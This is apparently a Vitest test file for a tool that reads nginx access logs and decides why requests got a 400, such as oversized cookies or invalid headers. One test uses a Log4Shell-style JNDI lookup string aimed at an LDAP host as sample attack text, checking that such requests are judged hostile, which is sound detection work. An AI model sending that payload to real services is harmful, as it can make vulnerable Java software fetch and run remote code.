// The causes of the family cookie-or-header-error, each asked alone.
import { expect, test } from 'vitest';
import type { Evidence } from '../../../src/judge/causes/cause.ts';
import { cookieOrHeaderTooLarge } from '../../../src/judge/causes/cookie-or-header-error/cookie-or-header-too-large.ts';
import { invalidHeader } from '../../../src/judge/causes/cookie-or-header-error/invalid-header.ts';
import { HitView } from '../../../src/judge/evidence/view.ts';
import { Tables } from '../../../src/judge/tables/tables.ts';
import { FIRM, hitOf, type Line, tablesOf } from '../literal.ts';

/** This server sends one custom page of 900 bytes for every 400. */
const ONE_PAGE: readonly Line[] = [
  { ...FIRM, body_bytes_sent: 900 },
  { ...FIRM, body_bytes_sent: 900 },
];
const PLAIN: Line = { status: 400, body_bytes_sent: 157 };
const TOO_LARGE: Line = { status: 400, body_bytes_sent: 157 + 76 };
const HEAD: Line = { request: 'HEAD / HTTP/1.1', status: 400, body_bytes_sent: 0 };

function cookie(line: Line, tables: Tables, before: readonly Line[] = []): Evidence | undefined {
  return cookieOrHeaderTooLarge.match(new HitView(hitOf(line, before), tables), tables);
}

function header(line: Line, tables: Tables, before: readonly Line[] = []): Evidence | undefined {
  return invalidHeader.match(new HitView(hitOf(line, before), tables), tables);
}

test('the case for the size of the page about large headers says how the plain page is known', () => {
  const missing: Line = { status: 404, body_bytes_sent: 153 };
  expect(cookie(TOO_LARGE, tablesOf([FIRM]))?.case).toBe('plain-page-shown');
  expect(cookie(TOO_LARGE, tablesOf([missing, missing]))?.case).toBe('plain-page-inferred');
  expect(cookie(TOO_LARGE, tablesOf())?.case).toBe('plain-page-assumed');
  expect(cookie(PLAIN, tablesOf([FIRM]))).toBeUndefined();
});

test('a HEAD request needs another refused request near by', () => {
  expect(cookie(HEAD, tablesOf([FIRM]), [TOO_LARGE])).toMatchObject({
    case: 'head-beside-refused-requests',
    facts: { others_refused: 1 },
  });
  expect(cookie(HEAD, tablesOf([FIRM]), [PLAIN])).toBeUndefined();
});

test('with one custom page for every 400, a browser needs another refused request near by', () => {
  const hit: Line = { status: 400, body_bytes_sent: 900 };
  expect(cookie(hit, tablesOf(ONE_PAGE), [hit])?.case).toBe('one-page-beside-refused-requests');
  expect(cookie(hit, tablesOf(ONE_PAGE))).toBeUndefined();
  const program: Line = { ...hit, http_user_agent: 'curl/8.5.0' };
  expect(cookie(program, tablesOf(ONE_PAGE), [program])).toBeUndefined();
});

test('before nginx 0.9.4 the plain page is enough for a browser, until two clients got the page about large headers', () => {
  const old = (lines: readonly Line[]): Tables => tablesOf([FIRM, ...lines], new Tables([0, 9, 3]));
  expect(cookie(PLAIN, old([]))).toMatchObject({ case: 'plain-page-of-old-nginx', facts: { nginx: 'before 0.9.4' } });
  expect(cookie({ ...PLAIN, http_user_agent: 'curl/8.5.0' }, old([]))).toBeUndefined();
  const seen: Line[] = [TOO_LARGE, { ...TOO_LARGE, client: '192.0.2.8' }];
  expect(cookie(PLAIN, old(seen))).toBeUndefined();
  expect(cookie(PLAIN, tablesOf([FIRM], new Tables([0, 9, 4])))).toBeUndefined();
});

test('the case says whether the bad header came before or after the user agent', () => {
  expect(header(PLAIN, tablesOf([FIRM]))).toMatchObject({ case: 'after-user-agent', verdict: undefined });
  expect(header({ ...PLAIN, http_user_agent: '-' }, tablesOf([FIRM]))?.case).toBe('before-user-agent');
  expect(header({ ...PLAIN, http_user_agent: '-' }, tablesOf())?.case).toBe('before-user-agent-by-other-pages');
  // An answer to HEAD has no body, so 0 bytes show nothing.
  expect(header(HEAD, tablesOf([FIRM]))).toBeUndefined();
});

test('a 400 of an upstream is not a bad header', () => {
  expect(header({ ...PLAIN, extra: { upstream_status: '400' } }, tablesOf([FIRM]))).toBeUndefined();
});

test('attack text or a client that only probes makes a bad header hostile, but not with one custom page for every 400', () => {
  const attack = 'GET /?x=${jndi:ldap://192.0.2.66/a} HTTP/1.1';
  const probe: Line = { status: 404, http_user_agent: '-' };
  expect(header({ ...PLAIN, request: attack }, tablesOf([FIRM]))?.verdict).toBe('hostile');
  expect(header({ ...PLAIN, http_user_agent: '-' }, tablesOf([FIRM]), [probe])?.verdict).toBe('hostile');
  const hidden: Line = { request: attack, status: 400, body_bytes_sent: 900, http_user_agent: 'curl/8.5.0' };
  expect(header(hidden, tablesOf(ONE_PAGE))).toMatchObject({ case: 'one-page-for-a-program' });
  expect(header(hidden, tablesOf(ONE_PAGE))?.verdict).toBeUndefined();
});

test('a missing user agent shows how far nginx had read only where the log has a field for it', () => {
  const bare: Line = { ...PLAIN, http_user_agent: '-' };
  expect(header(bare, tablesOf([FIRM]))?.case).toBe('before-user-agent');
  expect(header({ ...bare, lacksUserAgent: true }, tablesOf([FIRM]))?.case).toBe('after-user-agent');
});
